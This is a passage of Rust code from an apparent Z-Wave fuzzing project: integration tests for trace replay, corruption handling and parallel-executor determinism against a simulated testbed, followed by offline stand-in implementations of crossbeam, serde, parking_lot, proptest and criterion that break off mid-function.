    let out = zcover(&["trace", "export", zct.to_str().unwrap(), "--out", jsonl.to_str().unwrap()]);
    assert!(out.status.success(), "export failed: {}", String::from_utf8_lossy(&out.stderr));

    for path in [&zct, &jsonl] {
        let out = zcover(&["replay", path.to_str().unwrap()]);
        assert!(
            out.status.success(),
            "replay of {} failed: {}",
            path.display(),
            String::from_utf8_lossy(&out.stderr)
        );
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(stdout.contains("replay OK"), "{stdout}");
    }

    // Exporting the JSONL back to binary reproduces the original bytes.
    let zct2 = dir.join("trace2.zct");
    let out =
        zcover(&["trace", "export", jsonl.to_str().unwrap(), "--out", zct2.to_str().unwrap()]);
    assert!(out.status.success());
    assert_eq!(
        std::fs::read(&zct).unwrap(),
        std::fs::read(&zct2).unwrap(),
        "zct -> jsonl -> zct not bit-identical"
    );

    // Exporting to stdout prints the JSONL stream itself.
    let out = zcover(&["trace", "export", zct.to_str().unwrap()]);
    assert!(out.status.success());
    assert_eq!(out.stdout, std::fs::read(&jsonl).unwrap(), "stdout export differs from --out");

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn truncated_zct_exits_2_with_byte_offset_and_surviving_header() {
    let dir = tmp_dir("trunc");
    let zct = record_zct(&dir);
    let bytes = std::fs::read(&zct).unwrap();
    for frac in [4usize, bytes.len() / 3, bytes.len() / 2, bytes.len() - 1] {
        let path = dir.join(format!("trunc{frac}.zct"));
        std::fs::write(&path, &bytes[..frac]).unwrap();
        let out = zcover(&["replay", path.to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(2), "truncation to {frac} bytes: wrong exit code");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains("byte offset"), "truncation to {frac}: no locus in {stderr:?}");
        assert!(!stderr.contains("panicked"), "truncation to {frac} panicked: {stderr}");
        // Past the header, the CRC-protected header must still decode.
        if frac >= bytes.len() / 3 {
            assert!(
                stderr.contains("header: device D1, seed 11"),
                "truncation to {frac}: header not recovered in {stderr:?}"
            );
        }
    }
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn bit_flipped_zct_exits_2_and_never_panics() {
    let dir = tmp_dir("flip");
    let zct = record_zct(&dir);
    let bytes = std::fs::read(&zct).unwrap();
    for pos in (7..bytes.len()).step_by(bytes.len() / 5) {
        let mut flipped = bytes.clone();
        flipped[pos] ^= 0x20;
        let path = dir.join(format!("flip{pos}.zct"));
        std::fs::write(&path, &flipped).unwrap();
        let out = zcover(&["replay", path.to_str().unwrap()]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!stderr.contains("panicked"), "flip at {pos} panicked: {stderr}");
        // A flip lands in framing or payload CRC coverage somewhere: the
        // decode must reject it (exit 2); a flip that somehow decodes
        // must then fail replay as a divergence (exit 1), not succeed.
        assert!(
            matches!(out.status.code(), Some(1) | Some(2)),
            "flip at {pos}: exit {:?}, stderr {stderr:?}",
            out.status.code()
        );
        if out.status.code() == Some(2) {
            assert!(stderr.contains("byte offset"), "flip at {pos}: no locus in {stderr:?}");
        }
    }
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn divergence_exit_1_names_the_event_locus_in_both_formats() {
    let dir = tmp_dir("diverge");
    let zct = record_zct(&dir);
    let jsonl = dir.join("trace.jsonl");
    let out = zcover(&["trace", "export", zct.to_str().unwrap(), "--out", jsonl.to_str().unwrap()]);
    assert!(out.status.success());

    // Flip the recorded seed: the campaign re-executes differently from
    // event 0, which is a divergence, not a malformed file.
    let text = std::fs::read_to_string(&jsonl).unwrap();
    let perturbed = dir.join("perturbed.jsonl");
    std::fs::write(&perturbed, text.replacen("\"seed\":11", "\"seed\":12", 1)).unwrap();
    let out = zcover(&["replay", perturbed.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "seed flip must exit 1");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stdout.contains("DIVERGENCE at event 0"), "{stdout}");
    assert!(stderr.contains("lives at line 2"), "JSONL locus missing: {stderr:?}");

    // Same perturbation through the binary format names block + offset.
    let perturbed_zct = dir.join("perturbed.zct");
    let out = zcover(&[
        "trace",
        "export",
        perturbed.to_str().unwrap(),
        "--out",
        perturbed_zct.to_str().unwrap(),
    ]);
    assert!(out.status.success());
    let out = zcover(&["replay", perturbed_zct.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "binary seed flip must exit 1");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("lives at block 0 at byte offset"), "zct locus missing: {stderr:?}");

    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn trace_stats_reports_cross_trial_identity() {
    let dir = tmp_dir("stats");
    let zct = record_zct(&dir);
    let twin = dir.join("twin.zct");
    std::fs::copy(&zct, &twin).unwrap();
    let out = zcover(&["trace", "stats", zct.to_str().unwrap(), twin.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("trace stats:"), "{stdout}");
    assert!(stdout.contains("cross-trial divergence"), "{stdout}");
    assert!(stdout.contains(": identical"), "{stdout}");

    let out = zcover(&["trace", "stats", zct.to_str().unwrap(), "--format", "json"]);
    assert!(out.status.success());
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.starts_with('['), "{stdout}");
    assert!(stdout.contains("\"per_cmdcl\""), "{stdout}");
    std::fs::remove_dir_all(&dir).ok();
}

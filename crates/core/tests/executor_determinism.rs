//! Regression tests for the campaign executor's core contract: the merged
//! [`TrialSummary`] is bit-identical whatever the worker count, and equal
//! to the sequential `run_trials` path.

use std::time::Duration;

use zcover::{run_trials, CampaignExecutor, FuzzConfig};
use zwave_controller::testbed::{DeviceModel, Testbed};

const CAMPAIGN_SEED: u64 = 2025;

fn config() -> FuzzConfig {
    FuzzConfig::full(Duration::from_secs(1800), CAMPAIGN_SEED)
}

#[test]
fn parallel_summaries_are_bit_identical_across_worker_counts() {
    let trials = 6;
    let make = |seed| Testbed::new(DeviceModel::D1, seed);

    let sequential = CampaignExecutor::new(1)
        .run(trials, CAMPAIGN_SEED, make, &config())
        .expect("sequential run");
    for workers in [2, 8] {
        let parallel = CampaignExecutor::new(workers)
            .run(trials, CAMPAIGN_SEED, make, &config())
            .expect("parallel run");
        // Full structural equality: per-trial results (packets, findings,
        // traces, coverage, counters, timestamps), the merged dedup, and
        // the aggregate counters.
        assert_eq!(sequential, parallel, "{workers}-worker summary diverged");
    }
}

#[test]
fn run_trials_is_the_one_worker_executor() {
    let summary =
        run_trials(3, CAMPAIGN_SEED, |seed| Testbed::new(DeviceModel::D1, seed), &config())
            .expect("run_trials");
    let executor = CampaignExecutor::sequential()
        .run(3, CAMPAIGN_SEED, |seed| Testbed::new(DeviceModel::D1, seed), &config())
        .expect("executor");
    assert_eq!(summary, executor);
}

#[test]
fn repeated_runs_reproduce_exactly() {
    let make = |seed| Testbed::new(DeviceModel::D3, seed);
    let first = CampaignExecutor::new(4).run(4, 7, make, &config()).expect("first");
    let second = CampaignExecutor::new(4).run(4, 7, make, &config()).expect("second");
    assert_eq!(first, second);
}

#[test]
fn merged_summary_dedups_and_counts() {
    let summary = CampaignExecutor::new(4)
        .run(4, CAMPAIGN_SEED, |seed| Testbed::new(DeviceModel::D1, seed), &config())
        .expect("run");
    assert_eq!(summary.trials(), 4);
    // unique_findings carries each union bug exactly once, from the first
    // trial (by index) that found it.
    let mut ids: Vec<u8> = summary.unique_findings.iter().map(|f| f.bug_id).collect();
    ids.sort_unstable();
    assert_eq!(ids, summary.union_bug_ids);
    for finding in &summary.unique_findings {
        let first_trial = summary
            .per_trial
            .iter()
            .find(|r| r.findings.iter().any(|f| f.bug_id == finding.bug_id))
            .expect("some trial found it");
        let original = first_trial.findings.iter().find(|f| f.bug_id == finding.bug_id).unwrap();
        assert_eq!(finding, original);
    }
    // Aggregate counters are the per-trial sums.
    assert_eq!(
        summary.counters.packets_sent,
        summary.per_trial.iter().map(|r| r.counters.packets_sent).sum::<u64>()
    );
    assert_eq!(
        summary.counters.findings,
        summary.per_trial.iter().map(|r| r.counters.findings).sum::<u64>()
    );
}

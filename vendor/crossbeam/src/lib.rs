//! Offline stand-in for `crossbeam`.
//!
//! Provides the `crossbeam::thread::scope` API shape the campaign executor
//! uses, delegating to `std::thread::scope` (structured concurrency has
//! been in std since 1.63). The crossbeam spawn closure receives the scope
//! again so workers can spawn siblings; the std backend supports that
//! directly.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

/// Scoped threads.
pub mod thread {
    use std::any::Any;
    use std::thread as stdthread;

    /// A scope handle passed to [`scope`] and to every spawned closure.
    pub struct Scope<'scope, 'env: 'scope>(&'scope stdthread::Scope<'scope, 'env>);

    /// Join handle for a scoped thread.
    pub struct ScopedJoinHandle<'scope, T>(stdthread::ScopedJoinHandle<'scope, T>);

    impl<'scope, T> ScopedJoinHandle<'scope, T> {
        /// Waits for the thread and returns its result (Err on panic).
        pub fn join(self) -> Result<T, Box<dyn Any + Send + 'static>> {
            self.0.join()
        }
    }

    impl<'scope, 'env> Scope<'scope, 'env> {
        /// Spawns a thread inside the scope.
        pub fn spawn<F, T>(&self, f: F) -> ScopedJoinHandle<'scope, T>
        where
            F: FnOnce(&Scope<'scope, 'env>) -> T + Send + 'scope,
            T: Send + 'scope,
        {
            let inner = self.0;
            ScopedJoinHandle(inner.spawn(move || f(&Scope(inner))))
        }
    }

    /// Runs `f` with a scope in which threads can borrow from the caller;
    /// all spawned threads are joined before `scope` returns.
    ///
    /// # Errors
    ///
    /// Never returns `Err` (a panicking child propagates its panic when the
    /// scope joins it, matching std semantics); the `Result` exists for
    /// crossbeam API compatibility.
    pub fn scope<'env, F, R>(f: F) -> Result<R, Box<dyn Any + Send + 'static>>
    where
        F: for<'scope> FnOnce(&Scope<'scope, 'env>) -> R,
    {
        Ok(stdthread::scope(|s| f(&Scope(s))))
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn scoped_threads_borrow_and_join() {
        let data = [1u64, 2, 3, 4];
        let total = crate::thread::scope(|s| {
            let handles: Vec<_> = data.iter().map(|&x| s.spawn(move |_| x * 10)).collect();
            handles.into_iter().map(|h| h.join().unwrap()).sum::<u64>()
        })
        .unwrap();
        assert_eq!(total, 100);
    }

    #[test]
    fn workers_can_spawn_siblings() {
        let n = crate::thread::scope(|s| {
            let h = s.spawn(|s2| {
                let inner = s2.spawn(|_| 21u32);
                inner.join().unwrap() * 2
            });
            h.join().unwrap()
        })
        .unwrap();
        assert_eq!(n, 42);
    }
}

//! Offline stand-in for `serde`.
//!
//! Supplies the `Serialize`/`Deserialize` names — as marker traits and as
//! no-op derive macros — so the workspace's wire-model annotations keep
//! compiling without network access. No serialisation actually happens
//! anywhere in the tree today; a future PR that needs it should vendor a
//! data format and replace this stub with real trait machinery.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub use serde_derive::{Deserialize, Serialize};

/// Marker trait standing in for `serde::Serialize`.
pub trait Serialize {}

/// Marker trait standing in for `serde::Deserialize`.
pub trait Deserialize<'de>: Sized {}

//! Offline stand-in for `parking_lot`.
//!
//! Wraps `std::sync` primitives behind `parking_lot`'s poison-free API
//! (guards come back directly, not inside a `Result`). A poisoned lock —
//! only possible if a panicking thread died while holding it — returns the
//! inner guard, matching `parking_lot`'s behaviour of never poisoning.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use std::fmt;
use std::ops::{Deref, DerefMut};

/// A mutual-exclusion lock whose `lock` never returns a poison error.
#[derive(Default)]
pub struct Mutex<T: ?Sized>(std::sync::Mutex<T>);

/// RAII guard for [`Mutex::lock`].
pub struct MutexGuard<'a, T: ?Sized>(std::sync::MutexGuard<'a, T>);

impl<T> Mutex<T> {
    /// Creates a lock around `value`.
    pub const fn new(value: T) -> Self {
        Mutex(std::sync::Mutex::new(value))
    }

    /// Consumes the lock, returning the value.
    pub fn into_inner(self) -> T {
        self.0.into_inner().unwrap_or_else(std::sync::PoisonError::into_inner)
    }
}

impl<T: ?Sized> Mutex<T> {
    /// Acquires the lock, blocking until available.
    pub fn lock(&self) -> MutexGuard<'_, T> {
        MutexGuard(self.0.lock().unwrap_or_else(std::sync::PoisonError::into_inner))
    }

    /// Attempts to acquire the lock without blocking.
    pub fn try_lock(&self) -> Option<MutexGuard<'_, T>> {
        match self.0.try_lock() {
            Ok(g) => Some(MutexGuard(g)),
            Err(std::sync::TryLockError::Poisoned(p)) => Some(MutexGuard(p.into_inner())),
            Err(std::sync::TryLockError::WouldBlock) => None,
        }
    }

    /// Mutable access without locking (requires exclusive ownership).
    pub fn get_mut(&mut self) -> &mut T {
        self.0.get_mut().unwrap_or_else(std::sync::PoisonError::into_inner)
    }
}

impl<T: ?Sized + fmt::Debug> fmt::Debug for Mutex<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.try_lock() {
            Some(guard) => f.debug_tuple("Mutex").field(&&*guard).finish(),
            None => f.write_str("Mutex(<locked>)"),
        }
    }
}

impl<'a, T: ?Sized> Deref for MutexGuard<'a, T> {
    type Target = T;
    fn deref(&self) -> &T {
        &self.0
    }
}

impl<'a, T: ?Sized> DerefMut for MutexGuard<'a, T> {
    fn deref_mut(&mut self) -> &mut T {
        &mut self.0
    }
}

/// A readers-writer lock whose guards never carry poison errors.
#[derive(Default)]
pub struct RwLock<T: ?Sized>(std::sync::RwLock<T>);

/// RAII guard for [`RwLock::read`].
pub struct RwLockReadGuard<'a, T: ?Sized>(std::sync::RwLockReadGuard<'a, T>);

/// RAII guard for [`RwLock::write`].
pub struct RwLockWriteGuard<'a, T: ?Sized>(std::sync::RwLockWriteGuard<'a, T>);

impl<T> RwLock<T> {
    /// Creates a lock around `value`.
    pub const fn new(value: T) -> Self {
        RwLock(std::sync::RwLock::new(value))
    }

    /// Consumes the lock, returning the value.
    pub fn into_inner(self) -> T {
        self.0.into_inner().unwrap_or_else(std::sync::PoisonError::into_inner)
    }
}

impl<T: ?Sized> RwLock<T> {
    /// Acquires a shared read guard.
    pub fn read(&self) -> RwLockReadGuard<'_, T> {
        RwLockReadGuard(self.0.read().unwrap_or_else(std::sync::PoisonError::into_inner))
    }

    /// Acquires an exclusive write guard.
    pub fn write(&self) -> RwLockWriteGuard<'_, T> {
        RwLockWriteGuard(self.0.write().unwrap_or_else(std::sync::PoisonError::into_inner))
    }
}

impl<T: ?Sized + fmt::Debug> fmt::Debug for RwLock<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.0.try_read() {
            Ok(guard) => f.debug_tuple("RwLock").field(&&*guard).finish(),
            Err(_) => f.write_str("RwLock(<locked>)"),
        }
    }
}

impl<'a, T: ?Sized> Deref for RwLockReadGuard<'a, T> {
    type Target = T;
    fn deref(&self) -> &T {
        &self.0
    }
}

impl<'a, T: ?Sized> Deref for RwLockWriteGuard<'a, T> {
    type Target = T;
    fn deref(&self) -> &T {
        &self.0
    }
}

impl<'a, T: ?Sized> DerefMut for RwLockWriteGuard<'a, T> {
    fn deref_mut(&mut self) -> &mut T {
        &mut self.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mutex_roundtrip() {
        let m = Mutex::new(1);
        *m.lock() += 41;
        assert_eq!(*m.lock(), 42);
        assert_eq!(m.into_inner(), 42);
    }

    #[test]
    fn try_lock_contended_returns_none() {
        let m = Mutex::new(0u8);
        let g = m.lock();
        assert!(m.try_lock().is_none());
        drop(g);
        assert!(m.try_lock().is_some());
    }

    #[test]
    fn rwlock_roundtrip() {
        let l = RwLock::new(String::from("a"));
        l.write().push('b');
        assert_eq!(&*l.read(), "ab");
    }

    #[test]
    fn debug_formats_contents() {
        let m = Mutex::new(7);
        assert_eq!(format!("{m:?}"), "Mutex(7)");
        let g = m.lock();
        assert_eq!(format!("{m:?}"), "Mutex(<locked>)");
        drop(g);
    }

    #[test]
    fn shared_across_threads() {
        let m = std::sync::Arc::new(Mutex::new(0u64));
        let mut handles = Vec::new();
        for _ in 0..4 {
            let m = m.clone();
            handles.push(std::thread::spawn(move || {
                for _ in 0..1000 {
                    *m.lock() += 1;
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(*m.lock(), 4000);
    }
}

//! Offline stand-in for `serde_derive`.
//!
//! The workspace annotates wire-model types with
//! `#[derive(Serialize, Deserialize)]` but nothing currently serialises
//! them (there is no serde_json or similar in the tree). These derives
//! therefore expand to nothing: the attribute remains valid so the
//! annotations stay in place for a future PR that vendors a real data
//! format, at zero build cost today.

use proc_macro::TokenStream;

/// No-op `Serialize` derive.
#[proc_macro_derive(Serialize)]
pub fn derive_serialize(_input: TokenStream) -> TokenStream {
    TokenStream::new()
}

/// No-op `Deserialize` derive.
#[proc_macro_derive(Deserialize)]
pub fn derive_deserialize(_input: TokenStream) -> TokenStream {
    TokenStream::new()
}

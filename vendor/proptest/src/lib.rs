//! Offline stand-in for `proptest`.
//!
//! Implements the slice of the proptest API the workspace's property tests
//! use: the [`proptest!`] macro, [`any`], range and tuple strategies,
//! [`collection::vec`], [`Strategy::prop_map`], [`sample::Index`], and the
//! `prop_assert*` / `prop_assume!` macros. Cases are drawn from a
//! deterministic RNG seeded from the test's module path and name, so runs
//! are reproducible; there is no shrinking — a failure reports the case
//! number and the assertion message.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use std::marker::PhantomData;
use std::ops::{Range, RangeInclusive};

use rand::rngs::StdRng;
use rand::{Rng, SampleUniform};

#[doc(hidden)]
pub use rand as __rand;

/// A source of values for one test argument.
pub trait Strategy {
    /// The type of value this strategy produces.
    type Value;

    /// Draws one value.
    fn generate(&self, rng: &mut StdRng) -> Self::Value;

    /// Maps generated values through `f`.
    fn prop_map<O, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> O,
    {
        Map { source: self, map: f }
    }
}

/// Strategy returned by [`Strategy::prop_map`].
pub struct Map<S, F> {
    source: S,
    map: F,
}

impl<S, O, F> Strategy for Map<S, F>
where
    S: Strategy,
    F: Fn(S::Value) -> O,
{
    type Value = O;

    fn generate(&self, rng: &mut StdRng) -> O {
        (self.map)(self.source.generate(rng))
    }
}

/// Types with a canonical uniform strategy, used by [`any`].
pub trait Arbitrary: Sized {
    /// Draws one uniform value.
    fn arbitrary(rng: &mut StdRng) -> Self;
}

macro_rules! impl_arbitrary_via_gen {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut StdRng) -> Self {
                rng.gen()
            }
        }
    )*};
}
impl_arbitrary_via_gen!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize, bool);

impl<const N: usize> Arbitrary for [u8; N] {
    fn arbitrary(rng: &mut StdRng) -> Self {
        rng.gen()
    }
}

/// The canonical strategy for `T`: uniform over the whole domain.
pub fn any<T: Arbitrary>() -> Any<T> {
    Any(PhantomData)
}

/// Strategy returned by [`any`].
pub struct Any<T>(PhantomData<T>);

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;

    fn generate(&self, rng: &mut StdRng) -> T {
        T::arbitrary(rng)
    }
}

impl<T: SampleUniform> Strategy for Range<T> {
    type Value = T;

    fn generate(&self, rng: &mut StdRng) -> T {
        rng.gen_range(self.clone())
    }
}

impl<T: SampleUniform> Strategy for RangeInclusive<T> {
    type Value = T;

    fn generate(&self, rng: &mut StdRng) -> T {
        rng.gen_range(self.clone())
    }
}

macro_rules! impl_tuple_strategy {
    ($( ( $($S:ident $idx:tt),+ ) )+) => {$(
        impl<$($S: Strategy),+> Strategy for ($($S,)+) {
            type Value = ($($S::Value,)+);

            fn generate(&self, rng: &mut StdRng) -> Self::Value {
                ($( self.$idx.generate(rng), )+)
            }
        }
    )+};
}

impl_tuple_strategy! {
    (A 0)
    (A 0, B 1)
    (A 0, B 1, C 2)
    (A 0, B 1, C 2, D 3)
    (A 0, B 1, C 2, D 3, E 4)
    (A 0, B 1, C 2, D 3, E 4, F 5)
    (A 0, B 1, C 2, D 3, E 4, F 5, G 6)
    (A 0, B 1, C 2, D 3, E 4, F 5, G 6, H 7)
}

/// Collection strategies.
pub mod collection {
    use super::{Rng, StdRng, Strategy};

    /// An inclusive length range for [`vec`].
    #[derive(Clone, Copy, Debug)]
    pub struct SizeRange {
        lo: usize,
        hi: usize,
    }

    impl From<usize> for SizeRange {
        fn from(n: usize) -> Self {
            SizeRange { lo: n, hi: n }
        }
    }

    impl From<std::ops::Range<usize>> for SizeRange {
        fn from(r: std::ops::Range<usize>) -> Self {
            assert!(r.start < r.end, "empty vec size range");
            SizeRange { lo: r.start, hi: r.end - 1 }
        }
    }

    impl From<std::ops::RangeInclusive<usize>> for SizeRange {
        fn from(r: std::ops::RangeInclusive<usize>) -> Self {
            let (lo, hi) = r.into_inner();
            assert!(lo <= hi, "empty vec size range");
            SizeRange { lo, hi }
        }
    }

    /// Strategy returned by [`vec`].
    pub struct VecStrategy<S> {
        elem: S,
        size: SizeRange,
    }

    /// A `Vec` whose length is drawn from `size` and whose elements come
    /// from `elem`.
    pub fn vec<S: Strategy>(elem: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
        VecStrategy { elem, size: size.into() }
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;

        fn generate(&self, rng: &mut StdRng) -> Vec<S::Value> {
            let len = rng.gen_range(self.size.lo..=self.size.hi);
            (0..len).map(|_| self.elem.generate(rng)).collect()
        }
    }
}

/// Sampling helpers.
pub mod sample {
    use super::{Arbitrary, Rng, StdRng};

    /// A stand-in for an index into a collection whose length is unknown
    /// at generation time; resolve it with [`Index::index`].
    #[derive(Clone, Copy, Debug)]
    pub struct Index(usize);

    impl Index {
        /// This index modulo `len`. Panics if `len` is zero.
        pub fn index(&self, len: usize) -> usize {
            assert!(len > 0, "Index::index on an empty collection");
            self.0 % len
        }
    }

    impl Arbitrary for Index {
        fn arbitrary(rng: &mut StdRng) -> Self {
            Index(rng.gen::<u64>() as usize)
        }
    }
}

/// Runner configuration.
pub mod test_runner {
    /// How many cases each property runs.
    #[derive(Clone, Copy, Debug)]
    pub struct Config {
        /// Number of generated cases per property.
        pub cases: u32,
    }

    impl Config {
        /// A config running `cases` cases per property.
        pub fn with_cases(cases: u32) -> Self {
            Config { cases }
        }
    }

    impl Default for Config {
        fn default() -> Self {
            Config { cases: 256 }
        }
    }
}

/// The glob-import surface: strategies, macros, and `prop` as an alias for
/// this crate (for paths like `prop::sample::Index`).
pub mod prelude {
    pub use crate as prop;
    pub use crate::test_runner::Config as ProptestConfig;
    pub use crate::{
        any, prop_assert, prop_assert_eq, prop_assert_ne, prop_assume, proptest, Strategy,
    };
}

#[doc(hidden)]
pub fn __seed_from_path(path: &str) -> u64 {
    // FNV-1a: stable across runs and platforms, so every property replays
    // the same case sequence.
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for b in path.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// Declares property tests: each `fn name(arg in strategy, ...) { body }`
/// becomes a `#[test]` that replays a deterministic sequence of generated
/// cases. An optional `#![proptest_config(...)]` header sets the case count.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_impl! { cfg = $cfg; $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_impl! {
            cfg = <$crate::test_runner::Config as ::std::default::Default>::default();
            $($rest)*
        }
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_impl {
    (cfg = $cfg:expr; $(
        $(#[$meta:meta])*
        fn $name:ident($($arg:ident in $strat:expr),+ $(,)?) $body:block
    )*) => {$(
        $(#[$meta])*
        #[test]
        fn $name() {
            let __config: $crate::test_runner::Config = $cfg;
            let __seed = $crate::__seed_from_path(
                concat!(module_path!(), "::", stringify!($name)),
            );
            let mut __rng = <$crate::__rand::rngs::StdRng as $crate::__rand::SeedableRng>::seed_from_u64(__seed);
            let __strategy = ($($strat,)+);
            for __case in 0..__config.cases {
                let ($($arg,)+) = $crate::Strategy::generate(&__strategy, &mut __rng);
                let __outcome: ::std::result::Result<(), ::std::string::String> =
                    (move || {
                        $body
                        #[allow(unreachable_code)]
                        ::std::result::Result::Ok(())
                    })();
                if let ::std::result::Result::Err(__msg) = __outcome {
                    panic!(
                        "property {} failed at case {}/{}: {}",
                        stringify!($name),
                        __case,
                        __config.cases,
                        __msg
                    );
                }
            }
        }
    )*};
}

/// Asserts a condition inside a property, failing the case (not panicking
/// mid-generation) when it is false.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr $(,)?) => {
        if !($cond) {
            return ::std::result::Result::Err(::std::format!(
                "assertion failed: {}",
                stringify!($cond)
            ));
        }
    };
    ($cond:expr, $($fmt:tt)+) => {
        if !($cond) {
            return ::std::result::Result::Err(::std::format!($($fmt)+));
        }
    };
}

/// Asserts two expressions are equal inside a property.
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let (__l, __r) = (&$left, &$right);
        if !(*__l == *__r) {
            return ::std::result::Result::Err(::std::format!(
                "assertion failed: `left == right`\n  left: {:?}\n right: {:?}",
                __l,
                __r
            ));
        }
    }};
    ($left:expr, $right:expr, $($fmt:tt)+) => {{
        let (__l, __r) = (&$left, &$right);
        if !(*__l == *__r) {
            return ::std::result::Result::Err(::std::format!(
                "assertion failed: `left == right` ({}): left {:?}, right {:?}",
                ::std::format!($($fmt)+),
                __l,
                __r
            ));
        }
    }};
}

/// Asserts two expressions are unequal inside a property.
#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr $(,)?) => {{
        let (__l, __r) = (&$left, &$right);
        if *__l == *__r {
            return ::std::result::Result::Err(::std::format!(
                "assertion failed: `left != right`\n  both: {:?}",
                __l
            ));
        }
    }};
    ($left:expr, $right:expr, $($fmt:tt)+) => {{
        let (__l, __r) = (&$left, &$right);
        if *__l == *__r {
            return ::std::result::Result::Err(::std::format!(
                "assertion failed: `left != right` ({}): both {:?}",
                ::std::format!($($fmt)+),
                __l
            ));
        }
    }};
}

/// Skips the current case when its precondition does not hold.
#[macro_export]
macro_rules! prop_assume {
    ($cond:expr $(,)?) => {
        if !($cond) {
            return ::std::result::Result::Ok(());
        }
    };
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;
    use rand::SeedableRng;

    #[test]
    fn strategies_are_deterministic_per_seed() {
        let strat = (any::<u8>(), 0u8..16, crate::collection::vec(any::<u8>(), 0..=5));
        let mut a = rand::StdRng::seed_from_u64(9);
        let mut b = rand::StdRng::seed_from_u64(9);
        for _ in 0..50 {
            assert_eq!(strat.generate(&mut a), strat.generate(&mut b));
        }
    }

    #[test]
    fn vec_lengths_respect_bounds() {
        let strat = crate::collection::vec(any::<u8>(), 3..14);
        let mut rng = rand::StdRng::seed_from_u64(1);
        for _ in 0..200 {
            let v = strat.generate(&mut rng);
            assert!((3..14).contains(&v.len()), "len={}", v.len());
        }
    }

    #[test]
    fn prop_map_applies() {
        let strat = (any::<u8>(), any::<u8>()).prop_map(|(a, b)| u16::from(a) + u16::from(b));
        let mut rng = rand::StdRng::seed_from_u64(2);
        for _ in 0..50 {
            assert!(strat.generate(&mut rng) <= 510);
        }
    }

    #[test]
    fn index_resolves_in_bounds() {
        let mut rng = rand::StdRng::seed_from_u64(3);
        for _ in 0..100 {
            let idx = <crate::sample::Index as crate::Arbitrary>::arbitrary(&mut rng);
            assert!(idx.index(7) < 7);
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(32))]

        fn macro_wires_args_and_assertions(x in any::<u8>(), lo in 0u8..8) {
            prop_assume!(x != 255);
            let sum = u16::from(x) + u16::from(lo);
            prop_assert!(sum <= 254 + 7, "sum out of range: {sum}");
            prop_assert_eq!(sum, u16::from(x) + u16::from(lo));
            prop_assert_ne!(sum + 1, sum);
        }
    }
}

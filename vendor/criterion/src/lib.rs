//! Offline stand-in for `criterion`.
//!
//! Mirrors the criterion API shape the workspace's benches use
//! ([`Criterion::bench_function`], [`Criterion::benchmark_group`],
//! [`Bencher::iter`], [`criterion_group!`], [`criterion_main!`]) on top of
//! a small wall-clock harness: each benchmark is calibrated so one batch
//! takes a measurable slice of time, then timed over `sample_size` batches,
//! and the per-iteration mean/min are printed. No statistics beyond that —
//! enough to compare orders of magnitude and relative speedups (e.g. the
//! campaign-executor scaling bench), not to detect 1% regressions.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use std::time::{Duration, Instant};

/// Re-export of [`std::hint::black_box`]: keeps the optimiser from deleting
/// benchmarked work.
pub use std::hint::black_box;

/// Target wall-clock time for one calibrated batch.
const BATCH_TARGET: Duration = Duration::from_millis(20);

/// Timing harness handed to each benchmark closure.
pub struct Bencher {
    samples: usize,
}

impl Bencher {
    /// Calibrates a batch size for `f`, times `samples` batches, and
    /// prints the per-iteration mean and minimum.
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut f: F) {
        // Calibrate: grow the batch until it takes at least BATCH_TARGET.
        let mut batch: u64 = 1;
        loop {
            let start = Instant::now();
            for _ in 0..batch {
                black_box(f());
            }
            let elapsed = start.elapsed();
            if elapsed >= BATCH_TARGET || batch >= 1 << 30 {
                break;
            }
            // Aim past the target so the next probe usually terminates.
            let scale = (BATCH_TARGET.as_nanos() * 2 / elapsed.as_nanos().max(1)).max(2);
            batch = batch.saturating_mul(scale.min(1 << 20) as u64);
        }

        let mut total = Duration::ZERO;
        let mut best = Duration::MAX;
        for _ in 0..self.samples {
            let start = Instant::now();
            for _ in 0..batch {
                black_box(f());
            }
